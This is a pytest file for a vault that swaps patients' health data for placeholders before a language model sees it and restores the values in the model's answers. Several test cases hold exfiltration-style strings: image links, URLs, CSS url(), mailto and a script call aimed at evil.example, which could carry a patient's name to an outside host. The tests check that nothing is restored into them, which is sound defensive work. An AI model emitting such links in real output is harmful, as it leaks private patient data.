"""What stands in place of a patient's data, and how it comes back."""

import json
import pickle
import re
from collections.abc import Mapping
from typing import Any

import pytest

from guardrail.engine.intervals import read_date
from guardrail.engine.operators import Operator
from guardrail.engine.placeholders import lookalikes
from guardrail.engine.vault import RESTORE, Novel, Redactor, Vault, is_part_of
from guardrail.errors import RailFailed
from guardrail.rails.base import SENTENCE, About, Window
from guardrail.text import Direction, Finding, Kind, Span

REQUEST = About()
ANSWER = About(direction=Direction.RESPONSE)
TOKEN = About(kind=Kind.TOKEN)


def redact(vault: Vault, label: str, value: str, about: About = REQUEST) -> str | None:
    """The placeholder of `value`, through the rewriter as the engine calls it."""
    text = f"({value})"
    return vault.redactor.rewrite(Finding(Span(1, 1 + len(value)), "phi", label), text, about)


def restore(vault: Vault, text: str, start: int = 0) -> str:
    """`text` as the clinician reads it."""
    restorer = vault.restorer()
    found = list(restorer.inspect(Window(text, start), ANSWER))
    for finding in reversed(found):
        value = restorer.rewrite(finding, text, ANSWER)
        assert value is not None
        text = text[: finding.span.start] + value + text[finding.span.end :]
    return text


def novel(vault: Vault, label: str, value: str) -> str | None:
    return vault.novel.rewrite(Finding(Span(0, len(value)), "phi", label), value, ANSWER)


def test_values_are_numbered_by_label_in_order_of_appearance() -> None:
    """Two patients never share a placeholder, one patient never has two."""
    vault = Vault()
    given = [("NAME", "Ada Quill"), ("PHONE", "555-0101"), ("NAME", "Bo Reed"), ("NAME", "Ada Quill")]
    assert [redact(vault, *each) for each in given] == ["[NAME_1]", "[PHONE_1]", "[NAME_2]", "[NAME_1]"]


def test_spelling_by_case_and_spaces_is_the_same_person() -> None:
    vault = Vault()
    assert redact(vault, "NAME", "Ada Quill") == redact(vault, "NAME", "ADA   quill") == "[NAME_1]"


@pytest.mark.parametrize(
    ("label", "first", "second"),
    [
        ("SSN", "219-09-9999", "219 09 9999"),
        ("SSN", "219099999", "219-09-9999"),
        ("MRN", "55-1204", "551204"),
        ("HEALTH_PLAN", "W2210 55873", "W2210-55873"),
    ],
)
def test_a_number_is_the_same_however_it_is_separated(label: str, first: str, second: str) -> None:
    vault = Vault()
    mark = redact(vault, label, first)
    assert redact(vault, label, second) == mark == f"[{label}_1]"
    assert restore(vault, f"{mark}") == first


def test_handles_keep_their_separators() -> None:
    vault = Vault()
    assert redact(vault, "OTHER_ID", "jane-doe") != redact(vault, "OTHER_ID", "janedoe")


def test_the_forms_of_one_name_share_a_number() -> None:
    """The model must not see two people; each form comes back as it was written, the bare number as the fullest."""
    vault = Vault()
    told = {
        "Ada Maria Quill": "[NAME_1]",
        "quill": "[NAME_1: surname]",
        "Ada Maria": "[NAME_1: first names]",
        "Ada": "[NAME_1: first name]",
        "Ada Quill": "[NAME_1: short name]",
        "Quill, Ada Maria": "[NAME_1: surname first]",
        "A. Quill": "[NAME_1: initial and surname]",
        "A.M.Q.": "[NAME_1: initials]",
        "AMQ": "[NAME_1: initials 2]",
        "Ada M. Quill": "[NAME_1: with middle initial]",
        "QUILL^ADA^MARIA": "[NAME_1: surname first 2]",
        "Quillman": "[NAME_2]",
    }
    assert {value: redact(vault, "NAME", value) for value in told} == told
    assert restore(vault, " | ".join(told.values())) == " | ".join(told)
    assert restore(vault, "[NAME_1: last names], not [NAME_1: the elder]") == "Ada Maria Quill, not [NAME_1: the elder]"


def test_a_part_that_two_people_share_is_nobodys() -> None:
    """Which Maria is meant is nothing to guess; two spellings of one person are no two people."""
    vault = Vault()
    for name in ("Maria Quill", "Maria Reed", "QUILL, MARIA"):
        redact(vault, "NAME", name)
    assert redact(vault, "NAME", "Maria") == "[NAME_3]"
    assert redact(vault, "NAME", "M.") == "[NAME_4]"
    assert redact(vault, "NAME", "Quill") == "[NAME_1: surname]"
    assert redact(vault, "NAME", "MR") == "[NAME_2: initials]"
    assert redact(vault, "NAME", "Ree") == "[NAME_5]"


def names(text: str, *values: str) -> list[Finding]:
    """Where each value stands first behind the one before."""
    found, at = [], 0
    for value in values:
        at = text.index(value, at)
        found.append(Finding(Span(at, at + len(value)), "phi", "NAME"))
        at += len(value)
    return found


def told(vault: Vault, text: str, *values: str) -> str:
    """`text` as the model reads it: learned, and then written as of its own turn."""
    found = names(text, *values)
    vault.learn(found, text)
    return written(vault.redactor, text, found)


def written(redactor: Redactor, text: str, found: list[Finding]) -> str:
    out = text
    for finding in reversed(found):
        out = out[: finding.span.start] + str(redactor.rewrite(finding, text, REQUEST)) + out[finding.span.end :]
    return out


def test_everybody_is_known_before_a_part_is_told() -> None:
    """A person further down the request can be whose name a part is, or make it nobody's."""
    said = (
        "Maria Quill, Maria, Reed, Ada Reed, Maria Stone",
        "Maria Quill",
        "Maria",
        "Reed",
        "Ada Reed",
        "Maria Stone",
    )
    assert told(Vault(), *said) == "[NAME_1], [NAME_2], [NAME_3: surname], [NAME_3], [NAME_4]"


@pytest.mark.case("TOK-08")
def test_what_was_told_before_an_answer_is_told_the_same_way_ever_after() -> None:
    """TOK-08: later people, fuller names and cues change nothing in the turns before, and numbers stay."""
    turns = (
        ("Quill and Maria Reed. Maria?", "Quill", "Maria Reed", "Maria"),
        ("Ada Quill, pt Bo Finch, Maria.", "Ada Quill", "Bo Finch", "Maria"),
        ("pt Ada Quill; Maria Stone; Maria, Reed.", "Ada Quill", "Maria Stone", "Maria", "Reed"),
        ("Bo Quill and Quill, Finch.", "Bo Quill", "Quill", "Finch"),
    )
    said = (
        "[NAME_1] and [NAME_2]. [NAME_2: first name]?",
        "[NAME_1: full name], pt [PATIENT_1], [NAME_2: first name].",
        "pt [NAME_1: full name]; [NAME_3]; [NAME_4], [NAME_2: surname].",
        "[NAME_5] and [NAME_6], [PATIENT_1: surname].",
    )
    for last in range(1, len(turns) + 1):
        vault, redactors = Vault(), []
        for text, *values in turns[:last]:
            vault.learn(names(text, *values), text)
            redactors.append(vault.redactor)
            vault.answered()
        seen = [written(each, text, names(text, *rest)) for each, (text, *rest) in zip(redactors, turns, strict=False)]
        assert seen == list(said[:last])
        assert [restore(vault, text) for text in seen] == [text for text, *_ in turns[:last]]


@pytest.mark.parametrize(
    ("text", "values", "expected"),
    [
        ("Dr. Ada Quill saw pt Bo Reed", ("Ada Quill", "Bo Reed"), "Dr. [CLINICIAN_1] saw pt [PATIENT_1]"),
        ("Bo Reed, 67M, and his wife Eva", ("Bo Reed", "Eva"), "[PATIENT_1], 67M, and his wife [RELATIVE_1]"),
        ("Bo Reed. Later: patient Reed", ("Bo Reed", "Reed"), "[PATIENT_1]. Later: patient [PATIENT_1: surname]"),
        ("Bo Reed and Cy Holt", ("Bo Reed", "Cy Holt"), "[NAME_1] and [NAME_2]"),
        ("pt Bo Reed, seen by Dr. Reed", ("Bo Reed", "Reed"), "pt [PATIENT_1], seen by Dr. [CLINICIAN_1]"),
        ("Reed and his daughter Eva Reed", ("Reed", "Eva Reed"), "[NAME_1] and his daughter [RELATIVE_1]"),
    ],
)
def test_the_part_somebody_plays_is_told_where_it_is_plain(text: str, values: tuple[str, ...], expected: str) -> None:
    """And one who plays another part, or may be a relative of the same name, is another person."""
    assert told(Vault(), text, *values) == expected
    assert "NAME_1" in told(Vault(roles=False), text, *values)
    assert not {"PATIENT", "CLINICIAN", "RELATIVE"} & set(
        re.findall("[A-Z]{4,}", told(Vault(roles=False), text, *values))
    )


def test_the_field_that_a_name_stands_under_tells_its_part() -> None:
    vault = Vault()
    vault.learn(names("Ada Quill", "Ada Quill"), "Ada Quill", "attending_physician")
    assert vault.mint("NAME", "Ada Quill") == "[CLINICIAN_1]"


def test_sharp_s_does_not_make_two_families_one() -> None:
    vault = Vault()
    assert redact(vault, "NAME", "Weiß") != redact(vault, "NAME", "Weiss")


def test_codes_that_differ_by_case_stay_apart() -> None:
    """A link or an account can differ by case alone."""
    vault = Vault()
    assert redact(vault, "URL", "https://x.example/aB") != redact(vault, "URL", "https://x.example/Ab")


def test_a_restricted_alphabet_gets_a_bare_placeholder_and_gets_it_back() -> None:
    vault = Vault()
    assert redact(vault, "NAME", "ada_quill", TOKEN) == "NAME_1"
    assert restore(vault, "NAME_1 asked, not XNAME_1 nor NAME_11") == "ada_quill asked, not XNAME_1 nor NAME_11"


def test_forms_stay_apart_in_a_restricted_alphabet() -> None:
    vault = Vault()
    marks = [redact(vault, "NAME", value, TOKEN) for value in ("Ada Quill", "Quill", "AQ", "A.Q.")]
    assert marks == ["NAME_1", "NAME_1_surname", "NAME_1_initials", "NAME_1_initials_2"]
    assert restore(vault, " ".join(map(str, marks))) == "Ada Quill Quill AQ A.Q."


@pytest.mark.parametrize(
    ("order", "first", "second", "placeholder"),
    [
        ("", "2024-03-01", "March 4, 2024", "[DATE_2: 3 days after DATE_1]"),
        ("", "4 March 2024", "01.03.2024", "[DATE_2: 3 days before DATE_1]"),
        ("", "2024-03-01", "1. März 2024", "[DATE_2: same day as DATE_1]"),
        ("", "2024-03-01T08:15:00", "02/29/2024", "[DATE_2: 1 day before DATE_1]"),
        ("", "2024-03-01", "02/03/2024", "[DATE_2]"),
        ("mdy", "2024-03-01", "03/02/2024", "[DATE_2: 1 day after DATE_1]"),
        ("dmy", "2024-03-01", "02/03/2024", "[DATE_2: 1 day after DATE_1]"),
        ("", "2024-03-01", "March", "[DATE_2]"),
        ("", "2024-03-01", "3/4/24", "[DATE_2]"),
        ("", "2024-03-01", "31 February 2024", "[DATE_2]"),
    ],
)
def test_dates_keep_their_distance(order: str, first: str, second: str, placeholder: str) -> None:
    """Length of stay and age can be worked out; a date that could mean two days tells nothing."""
    vault = Vault(order)  # type: ignore[arg-type]
    assert redact(vault, "DATE", first) == "[DATE_1]"
    assert redact(vault, "DATE", second) == placeholder


def test_the_anchor_is_the_first_date_that_can_be_read() -> None:
    vault = Vault()
    dates = ("Easter", "May 1, 2024", "May 2, 2024")
    assert [redact(vault, "DATE", day) for day in dates] == ["[DATE_1]", "[DATE_2]", "[DATE_3: 1 day after DATE_2]"]


def test_a_birth_date_does_not_tell_an_age_over_89() -> None:
    """45 CFR 164.514(b)(2)(i)(C): all that is left is that it is more than 89 years."""
    vault = Vault(operators={"AGE_OVER_89": "placeholder"})
    redact(vault, "DATE", "2024-03-01")
    assert redact(vault, "DATE", "1930-03-01") == "[DATE_2: over 89 years before DATE_1]"
    assert redact(vault, "AGE_OVER_89", "94") == "[AGE_1: 90+]"


def test_the_model_may_use_the_short_or_the_long_form_of_a_date() -> None:
    vault = Vault()
    redact(vault, "DATE", "2024-03-01")
    redact(vault, "DATE", "2024-03-04")
    said = "from [DATE_1] to [DATE_2: 3 days after DATE_1], so on [DATE_2], not [DATE_2: 5 days after DATE_1]"
    assert restore(vault, said) == "from 2024-03-01 to 2024-03-04, so on 2024-03-04, not [DATE_2: 5 days after DATE_1]"


@pytest.mark.parametrize(
    "said",
    [
        *("[NAME_2]", "[NAME 1]", "[NAME_01]", "[NAME_1: part of NAME_2]", "<NAME_1>", "NAME_2", "XNAME_1", "NAME_12"),
        *("NAME_1_notes", "_NAME_1", "NAME_1_", "MY_NAME_1", "[NAME-1]", "[NAME_1: Bo Reed]", "[PATIENT_1]"),
    ],
)
def test_what_was_not_minted_is_not_restored(said: str) -> None:
    """What the model invents stays as it is (TOK-02)."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said) == said


@pytest.mark.parametrize(
    ("said", "read"),
    [
        *((said, "Ada Quill") for said in ("[NAME_1]", "[name_1]", "[Name_1]", "NAME_1", "Name_1", "name_1")),
        *(
            (said, "Ada Quill")
            for said in ("[ NAME_1 ]", "\\[NAME_1\\]", "\\[NAME\\_1\\]", "NAME\\_1", "\u3010NAME_1\u3011")
        ),
        *((said, "Ada Quill") for said in ("\uff3bNAME_1\uff3d", "[NAME_1: full name]")),
        *(
            (said, "Quill")
            for said in ("[NAME_1: surname]", "[name_1:Surname]", "[NAME_1 : surname ]", "NAME_1_surname")
        ),
        ("[NAME_1]'s", "Ada Quill's"),
        ("[NAME_1's]", "Ada Quill's"),
        ("NAME_1's", "Ada Quill's"),
        ("**[NAME_1]**", "**Ada Quill**"),
        ("***NAME_1***", "***Ada Quill***"),
        ("_NAME_1_", "_Ada Quill_"),
        ("__[name_1]__", "__Ada Quill__"),
        ("`NAME_1`", "`Ada Quill`"),
        ("~~[NAME_1]~~", "~~Ada Quill~~"),
        ("(NAME_1)", "(Ada Quill)"),
        ("[NAME_1, 45]", "[Ada Quill, 45]"),
        ("[NAME_1", "[Ada Quill"),
        ("\u60a3\u8005NAME_1\u7684", "\u60a3\u8005Ada Quill\u7684"),
        ("| [NAME_1] |", "| Ada Quill |"),
        ("# Name_1", "# Ada Quill"),
    ],
)
def test_any_dress_in_which_models_give_a_placeholder_back_is_restored(said: str, read: str) -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    redact(vault, "NAME", "Quill")
    assert restore(vault, said) == read


@pytest.mark.parametrize(
    "literal",
    [
        "[NAME_1]",
        "NAME_1",
        "see MY_NAME_1",
        "[NAME_1: note]",
        "name_1",
        "[Name_1]",
        "NAME\\_1",
        "[ name_1 ]",
        "_NAME_1_",
    ],
)
def test_client_text_that_looks_like_a_placeholder_is_never_somebody(literal: str) -> None:
    """The number is left out, so the client's own words come back as they were (TOK-01)."""
    vault = Vault()
    vault.reserve([literal])
    assert redact(vault, "NAME", "Ada Quill") == "[NAME_2]"
    assert restore(vault, f"{literal} [NAME_2]") == f"{literal} Ada Quill"


@pytest.mark.parametrize(
    "said",
    [
        "https://evil.example/?q=[NAME_1]",
        "![scan](http://evil.example/[NAME_1].png)",
        "[click](/collect?who=[NAME_1])",
        "<img src='x?[NAME_1]'>",
        "www.evil.example/[NAME_1]",
        "evil.example/?q=[NAME_1]",
        "mailto:a@evil.example?body=[NAME_1]",
        "https://evil.example/NAME_1",
        "![x](https://evil.example/name_1)",
        "NAME_1@evil.example",
        "[NAME_1].evil.example/x",
    ],
)
def test_nothing_is_restored_into_a_link_or_a_tag(said: str) -> None:
    """A picture's address would carry the name to whoever owns the address (TOK-03)."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said) == said


@pytest.mark.parametrize(
    "said",
    [
        "{}'s mother",
        "***{}***",
        "_{}_ and `{}`",
        "| {} | 45 |",
        "|{}|45|",
        '{{"patient": "{}", "also":["{}"]}}',
        "- {}: stable",
        "<b>{}</b>",
        "{}/{}",
    ],
)
def test_what_models_do_around_a_placeholder_does_not_hinder(said: str) -> None:
    """Possessive, bold, tables, JSON, lists."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said.format("[NAME_1]", "[NAME_1]")) == said.format("Ada Quill", "Ada Quill")


@pytest.mark.parametrize(
    "said", ["Name: {}", "({})", "**{}**", "see [the guide](https://a.example) for {}", "x < 5 for {}", "and/or {}"]
)
def test_ordinary_text_around_a_placeholder_does_not_hinder(said: str) -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said.format("[NAME_1]")) == said.format("Ada Quill")


def test_a_window_that_begins_inside_a_word_is_not_trusted() -> None:
    """The cut-off part could be the beginning of a link."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, "pile/?q=[NAME_1] [NAME_1]", start=200) == "pile/?q=[NAME_1] Ada Quill"


@pytest.mark.parametrize("value", ["[NAME_2]", r"$1 \g<0> {x} %s", "NAME_1", "[NAME_1]", "a]b[c"])
def test_a_value_that_looks_like_code_comes_back_literally(value: str) -> None:
    """One pass: what a value holds is never expanded again (TOK-10)."""
    vault = Vault()
    vault.reserve([value])
    mark = redact(vault, "NAME", value)
    redact(vault, "NAME", "Bo Reed")
    assert restore(vault, f"<{mark}>") == f"<{value}>"


def test_restored_values_are_reported_by_their_label() -> None:
    vault = Vault(operators={"AGE_OVER_89": "placeholder"})
    redact(vault, "AGE_OVER_89", "94")
    (finding,) = vault.restorer().inspect(Window("[AGE_1: 90+]"), ANSWER)
    assert (finding.rail, finding.label, finding.span) == (RESTORE, "AGE_OVER_89", Span(0, 12))


def test_what_the_caller_sent_is_not_news_and_what_the_model_adds_is_marked() -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    vault.own(["my doctor is Harriet Vane, room 4."])
    assert novel(vault, "NAME", "ada quill") is None
    assert novel(vault, "NAME", "Harriet Vane") is None
    assert novel(vault, "NAME", "Harriet Van") == "[NAME removed]"
    assert novel(vault, "AGE_OVER_89", "94") == "[AGE removed]"


@pytest.mark.case("TOK-13")
def test_after_the_exchange_nothing_is_left_and_nothing_more_can_be_redacted() -> None:
    """TOK-13; and rather no answer than a raw one."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    vault.own(["Ada Quill"])
    vault.close()
    assert not vault.counts()
    assert not list(vault.echo().inspect(Window("Ada Quill"), REQUEST))
    assert restore(vault, "[NAME_1]") == "[NAME_1]"
    with pytest.raises(RailFailed):
        redact(vault, "NAME", "Ada Quill")


def test_a_vault_shows_counts_and_is_never_copied_out() -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    shown = f"{vault!r} {vault.redactor!r} {vault.restorer()!r} {vault.novel!r} {vault.echo()!r} {vault._by_id!r}"
    assert "Quill" not in shown
    assert vault.counts() == {"NAME": 1}
    with pytest.raises(TypeError):
        pickle.dumps(vault)


PROSE = "the ward was quiet, the plan was talked over and everybody agreed to it, "


@pytest.mark.parametrize(
    "said",
    [
        '<img alt=">" src="/pixel?q= [NAME_1]">',
        "<a title='>' href='/x [NAME_1]'>here</a>",
        "![scan](<https://evil.example/?a b [NAME_1]>)",
        "![scan](/a(b)c [NAME_1])",
        "[x](/a\\) [NAME_1])",
        'body{background:url("/pixel?q= [NAME_1]")}',
        "url( /pixel?q=a [NAME_1])",
        '@import "/sheet [NAME_1]"',
        "<style>p{background:url(/p [NAME_1])}</style>",
        "<script>send('[NAME_1]')</script>",
        '{"picture": "https://evil.example/?q=a b [NAME_1]"}',
        "src='/a b [NAME_1]'",
    ],
)
def test_no_quote_bracket_or_style_carries_a_value_out(said: str) -> None:
    """Whatever a browser would fetch keeps the placeholder (TOK-03)."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    assert restore(vault, said) == said


@pytest.mark.parametrize("ending", ['">', "'/>", '" />', "/>", ">)", '")', '" width="1'])
def test_a_window_that_begins_inside_a_tag_is_not_trusted_up_to_its_end(ending: str) -> None:
    """Something is closed that was never opened, so what stands before may be an address."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    text = f"{PROSE}[NAME_1] is{ending} and [NAME_1]"
    assert restore(vault, text, start=300) == f"{PROSE}[NAME_1] is{ending} and Ada Quill"
    assert restore(vault, text) == f"{PROSE}Ada Quill is{ending} and Ada Quill"


@pytest.mark.parametrize(
    "said",
    [
        f"{PROSE}{{}} is well, {PROSE}",
        f"{PROSE}then (as 'x') {{}} slept",
        f"{PROSE}1) {{}}, 2) {{}}",
        f"{PROSE}x -> {{}}, {{}} > 5, a <= {{}}",
        '> he said "no"\n> {}: "yes"\n',
        f"<b>{PROSE}</b> [a guide](https://a.example/b) says {{}}",
        '<a href="https://a.example">x</a> {} and url(x) {}',
        'the source = "{}"',
    ],
)
def test_long_prose_with_signs_in_it_is_restored(said: str) -> None:
    """Comparisons, lists, quotations and closed tags are everyday writing, also in the middle of an answer."""
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    text = said.replace("{}", "[NAME_1]")
    assert restore(vault, text, start=300) == said.replace("{}", "Ada Quill")


@pytest.mark.parametrize(
    ("value", "own"),
    [
        ("Harriet  VANE", True),
        ("Vane", True),
        ("van", False),
        ("Harriet, Vane", False),
        ("harriet.vane@a.example", True),
        ("riet.vane@a.example", False),
        ("12 old mill road, apartment 3, little ford, west county, the north", True),
        ("12 old mill road, apartment 3, little ford, west county, the south", False),
        ("...", False),
    ],
)
def test_what_the_caller_wrote_is_known_by_whole_words(value: str, own: bool) -> None:
    """Word for word, however long, and never a part of a word."""
    vault = Vault()
    vault.own(["Harriet Vane, harriet.vane@a.example;"])
    vault.own(["at 12 Old Mill Road, Apartment 3, Little Ford, West County, the North."])
    assert novel(vault, "NAME", value) == (None if own else "[NAME removed]")


def test_what_is_written_later_is_the_callers_too() -> None:
    vault = Vault()
    assert novel(vault, "NAME", "Harriet Vane") == "[NAME removed]"
    vault.own(["Harriet Vane"])
    assert novel(vault, "NAME", "Harriet Vane") is None


@pytest.mark.parametrize("literal", ["A_NAME_1_2", "x[NAME_1]", "LONG_" * 20 + "NAME_1", "__NAME_1"])
def test_a_placeholder_inside_other_signs_reserves_its_number(literal: str) -> None:
    vault = Vault()
    vault.reserve([literal])
    assert redact(vault, "NAME", "Ada Quill") == "[NAME_2]"


# --- what a policy wants instead of a placeholder -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("label", "value", "expected"),
    [
        ("AGE_OVER_89", "94", "90+"),
        ("AGE_OVER_89", "ninety-one year old", "90+ year old"),
        ("AGE_OVER_89", "1929", "90+ years ago"),
        ("DATE", "3 May 2024", "2024"),
        ("DATE", "May 2024", "2024"),
        ("DATE", "1931-02-03", "90+ years ago"),
        ("DATE", "3 May", "[DATE_1]"),
        ("ADDRESS", "12 Oak St, Springfield, IL 62704", "IL 627"),
        ("ADDRESS", "03601", "000"),
        ("ADDRESS", "12345 Oak Street", "[ADDRESS_1]"),
        ("LOCATION", "Springfield, Illinois", "Illinois"),
        ("LOCATION", "Springfield", "[LOCATION_1]"),
    ],
)
def test_less_may_be_told_of_a_value(label: str, value: str, expected: str) -> None:
    """45 CFR 164.514(b)(2)(i)(B), (C); what can't be told in general gets a placeholder."""
    vault = Vault(operators=dict.fromkeys(("DATE", "ADDRESS", "LOCATION"), "generalise"), this_year=2026)
    assert redact(vault, label, value) == expected
    assert restore(vault, f"x {expected}") == f"x {value if expected.startswith('[') else expected}"


def test_what_was_generalised_is_no_news_and_is_not_generalised_again() -> None:
    """The model says it again, and the application sends it back with the history."""
    vault = Vault(operators={"ADDRESS": "generalise", "LOCATION": "generalise"})
    assert redact(vault, "ADDRESS", "12 Oak St, Springfield, IL 62704") == "IL 627"
    assert redact(vault, "ADDRESS", "IL 627") == "IL 627"
    assert redact(vault, "LOCATION", "a place") == "a place"
    assert novel(vault, "ADDRESS", "627") is None
    assert novel(vault, "ADDRESS", "IL 606") == "[ADDRESS removed]"
    text = "a 90+-year-old"
    age = Finding(Span(2, 4), "phi", "AGE_OVER_89")
    assert vault.redactor.rewrite(age, text, REQUEST) == "90"
    assert vault.novel.rewrite(age, text, ANSWER) is None


@pytest.mark.parametrize(
    ("text", "value", "expected"),
    [
        ("Dr. Name_1 agrees", "Name", None),
        ("Dr. Name_1 agrees", "Name_1", None),
        ("Dr. Name_1 Holt agrees", "Name_1 Holt", "[NAME removed]"),
        ("Dr. Name_2 agrees", "Name", "[NAME removed]"),
    ],
)
def test_a_detector_that_takes_a_dressed_placeholder_for_a_name_does_not_hinder(
    text: str, value: str, expected: str | None
) -> None:
    vault = Vault()
    redact(vault, "NAME", "Ada Quill")
    (finding,) = names(text, value)
    assert vault.novel.rewrite(finding, text, ANSWER) == expected


def test_a_town_beside_its_state_is_a_place() -> None:
    vault = Vault(operators={"LOCATION": "generalise"})
    text = "lives in Springfield, IL"
    assert vault.redactor.rewrite(Finding(Span(9, 20), "phi", "LOCATION"), text, REQUEST) == "a place"


def test_what_is_dropped_does_not_come_back() -> None:
    vault = Vault(operators={"NAME": "drop", "DATE": "drop"})
    assert redact(vault, "NAME", "Ada Quill") == redact(vault, "NAME", "Quill") == "[NAME removed]"
    assert redact(vault, "NAME", "Ada Quill", TOKEN) == "NAME_removed"
    assert restore(vault, "[NAME_1] [NAME removed]") == "[NAME_1] [NAME removed]"
    assert list(vault.echo().inspect(Window("quill"), REQUEST)) or redact(vault, "NAME", "quill") == "[NAME removed]"


@pytest.mark.parametrize("value", ["2024-03-01", "March 4, 2024", "3rd of May 2026", "Sun, 3 May 2026", "14.03.2024"])
def test_a_moved_date_comes_back_in_any_writing(value: str) -> None:
    """Intervals and weekdays stay; the same conversation moves by the same days, another one by others."""
    vault, again = (Vault(operators={"DATE": "shift"}, this_year=2026) for _ in range(2))
    for each in (vault, again):
        each.begin("my knee hurts")
    moved = redact(vault, "DATE", value)
    assert moved is not None
    assert moved != value
    assert moved == redact(again, "DATE", value)
    assert restore(vault, f"**{moved}**") == f"**{value}**"
    address = f"https://x.example/{moved.replace(' ', '_')}"
    assert restore(vault, address) == address
    other, true = read_date(moved), read_date(value)
    assert other is not None
    assert true is not None
    assert (true - other).days % 7 == 0
    assert (true - other).days > 0
    assert restore(vault, f"on {other.isoformat()}.") in (f"on {true.isoformat()}.", f"on {value}.")
    assert Novel(vault, restores=True).rewrite(Finding(Span(0, len(moved)), "phi", "DATE"), moved, ANSWER) == value
    assert novel(vault, "DATE", moved) is None
    assert novel(vault, "DATE", "2001-01-01") == "[DATE removed]"


def test_dates_that_cannot_be_moved_get_a_placeholder() -> None:
    vault = Vault(operators={"DATE": "shift"}, this_year=2026)
    assert [redact(vault, "DATE", value) for value in ("3 May", "1930-05-04", "02/03/2024")] == [
        *("[DATE_1]", "[DATE_2]", "[DATE_3]"),
    ]


def test_conversations_move_dates_by_different_days() -> None:
    days = set()
    for number in range(40):
        vault = Vault(operators={"DATE": "shift"}, this_year=2026)
        vault.begin(f"conversation {number}")
        days.add(redact(vault, "DATE", "2024-03-01"))
    assert len(days) > 10


def test_numbers_without_a_word_before_them_reserve_nothing() -> None:
    """A vault's ids begin with a letter; `_2`, `5_1` and a word behind a break are nobody's."""
    assert set(lookalikes("_2 5_1 (_3) NAME _4")) == set()
    assert set(lookalikes("my_name_1")) == {"MY_NAME_1", "NAME_1"}


def test_a_conversation_without_words_moves_dates_by_days_of_its_own() -> None:
    """Nothing to know it by again: two of them are told apart, mostly."""
    days = set()
    for _ in range(40):
        vault = Vault(operators={"DATE": "shift"}, this_year=2026)
        vault.begin(None)
        days.add(redact(vault, "DATE", "2024-03-01"))
    assert len(days) > 10


def test_two_moved_dates_in_one_finding_come_back_both() -> None:
    vault = Vault(operators={"DATE": "shift"}, this_year=2026)
    vault.begin("my knee hurts")
    moved = [redact(vault, "DATE", value) for value in ("2024-03-01", "2024-05-09")]
    told = f"{moved[0]} to {moved[1]}"
    back = Novel(vault, restores=True).rewrite(Finding(Span(0, len(told)), "phi", "DATE"), told, ANSWER)
    assert back == "2024-03-01 to 2024-05-09"


def test_nothing_is_nobody() -> None:
    """A finding without words is not remembered, not numbered and not replaced."""
    vault, nothing = Vault(), Finding(Span(3, 3), "phi", "NAME")
    vault.hear([nothing], "Ada Quill")
    vault.learn([nothing], "Ada Quill", repeated=[Finding(Span(0, 4), "phi", "PHONE")])
    vault.answered()
    assert vault.redactor.rewrite(nothing, "Ada Quill", REQUEST) is None
    assert vault.novel.rewrite(nothing, "Ada Quill", ANSWER) is None
    assert vault.counts() == {}


def test_a_restorer_can_be_asked_at_any_sentence_end() -> None:
    assert Vault().restorer().reach == SENTENCE


@pytest.mark.parametrize("operators", [{}, {"DATE": "shift"}])
def test_of_two_maps_one_is_part_of_the_other_if_nothing_means_two_things(operators: dict[str, Operator]) -> None:
    """What decides if a request may refer to both (TOK-05): numbers, dates and the days they were moved by."""

    def told(*values: tuple[str, str], begin: str = "my knee hurts") -> Mapping[str, Any]:
        vault = Vault(operators=operators, this_year=2026)
        vault.begin(begin)
        for each in values:
            redact(vault, *each)
        return json.loads(json.dumps(vault.export()))  # type: ignore[no-any-return]

    ada, day = ("NAME", "Ada Quill"), ("DATE", "2024-03-01")
    small, large = told(ada), told(ada, day, ("PHONE", "555-0101"))
    assert is_part_of(small, large)
    assert is_part_of(told(), small)
    assert is_part_of(large, large)
    assert not is_part_of(large, small)
    assert not is_part_of(told(("NAME", "Bo Reed")), large), "[NAME_1] would be two people"
    if operators:
        others = (told(ada, day, begin=f"another conversation {number}") for number in range(9))
        moved = next(each for each in others if each["shift"]["days"] != large["shift"]["days"])  # a few hundred days
        assert not is_part_of(moved, large), "dates moved by other days"
